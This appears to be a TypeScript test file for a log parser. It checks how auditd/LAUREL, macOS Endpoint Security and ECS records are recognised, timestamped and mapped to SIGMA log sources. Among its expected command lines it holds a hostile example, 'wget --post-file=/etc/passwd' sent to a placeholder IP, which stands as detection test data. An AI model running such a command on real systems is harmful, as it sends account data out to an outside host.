/** Records of sources beside Windows: recognised, timed, and told apart as SIGMA tells them apart. */
import { describe, expect, test } from 'vitest';
import { formatFileTime } from '@shared/model/time-text';
import { LOG_SOURCE_FIELD } from '@shared/model/log-source';
import { openNdjson } from '@shared/ndjson/ndjson-reader';
import { OTHER_LOG_SOURCES } from '@shared/sigma/other-log-sources';
import { LOG_SOURCE_RECORDS } from '../../fixtures/log-source-records';
import { sourceOf } from '../../fixtures/byte-source';
import { bytesOf, fieldsOf } from './bytes';

function read(record: object) {
  const reader = openNdjson(sourceOf(bytesOf(JSON.stringify(record))), 'lines');
  const [parsed] = [...reader.records()];
  if (parsed?.type !== 'event') throw new Error('no event');
  return { label: reader.sourceLabel.replace('NDJSON · ', ''), event: parsed.event };
}

test.each(LOG_SOURCE_RECORDS)('$label: $told', ({ label, record, told }) => {
  const { label: recognised, event } = read(record);
  expect(recognised).toBe(label);
  expect([fieldsOf(event)[LOG_SOURCE_FIELD]].flat()).toEqual(told);
  expect(event.time === null ? null : formatFileTime(event.time)).toBe(
    '2026-03-09T10:00:00.5000000Z',
  );
});

test('whatever a record tells is a source rules may name', () => {
  const known = new Set([...OTHER_LOG_SOURCES, 'linux/-/-']);
  const told = LOG_SOURCE_RECORDS.flatMap((one) => one.told);
  expect(told.filter((text) => !known.has(text))).toEqual([]);
});

describe('the system an endpoint record tells', () => {
  const created = (host: object) =>
    read({
      '@timestamp': '2026-03-09T10:00:00.500Z',
      ...{ ecs: { version: '8' }, event: { action: 'x', category: 'process', type: 'start' } },
      ...{ host, process: { executable: 'a' } },
    }).event;

  test.each([
    [{ name: 'a', os: { type: 'windows' } }, 'windows/process_creation/-'],
    [{ name: 'a', os: { type: 'linux', family: 'windows' } }, 'linux/process_creation/-'],
    [{ name: 'a', os: { platform: 'darwin' } }, 'macos/process_creation/-'],
    [{ name: 'a' }, 'windows/process_creation/-'],
  ])('%j', (host, told) => {
    expect(fieldsOf(created(host))[LOG_SOURCE_FIELD]).toBe(told);
  });

  test('an event of a Windows channel needs none', () => {
    const { event } = read({
      '@timestamp': '2026-03-09T10:00:00.500Z',
      ...{ ecs: { version: '8' }, event: { action: 'x', category: 'process', type: 'start' } },
      winlog: { channel: 'Security' },
    });
    expect(fieldsOf(event)).not.toHaveProperty(LOG_SOURCE_FIELD);
  });
});

test('arguments in a list make one command line', () => {
  const lists = LOG_SOURCE_RECORDS.filter(({ label }) => /LAUREL|Endpoint Security/.test(label));
  const lines = lists.flatMap(({ record }) => fieldsOf(read(record).event)['CommandLine'] ?? []);
  expect(lines).toEqual([
    ...['curl http://192.0.2.1/x', 'wget --post-file=/etc/passwd http://192.0.2.1', 'pbpaste -x'],
  ]);
});

test('the records of an event that LAUREL put into one are told by type and argument, as auditd writes them', () => {
  const executed = (...argv: string[]) => ({
    ...{ ID: '1773050400.500:42', NODE: 'web1', PARENT_INFO: { exe: '/bin/sh' } },
    SYSCALL: { SYSCALL: 'execve', a0: '0x1a', a3: '0x3', exe: `/usr/bin/${argv[0]}` },
    ...{ EXECVE: { argc: argv.length, ARGV: argv }, CWD: { cwd: '/' } },
    PATH: [{ name: '/bin/x', nametype: 'NORMAL' }, { name: '/lib/y' }],
  });
  const records = [executed('ls', '-l'), executed('ls', '-l', '/'), executed('id', '-u')];
  const lines = records.map((record) => JSON.stringify(record)).join('\n');
  const events = [...openNdjson(sourceOf(bytesOf(lines)), 'lines').records()].map((parsed) =>
    fieldsOf(parsed.type === 'event' ? parsed.event : undefined),
  );
  const numbered = ['a0', 'a1', 'a2', 'a3', 'a4'];
  expect(events.map((event) => numbered.map((name) => event[name]))).toEqual([
    [['1a', 'ls'], '-l', undefined, '3', undefined],
    [['1a', 'ls'], '-l', '/', '3', undefined],
    [['1a', 'id'], '-u', undefined, '3', undefined],
  ]);
  expect(events[0]).toMatchObject({
    ...{ type: ['SYSCALL', 'EXECVE', 'CWD', 'PATH'], 'SYSCALL.a0': '0x1a' },
    ...{ name: ['/bin/x', '/lib/y'], nametype: 'NORMAL' },
  });
});
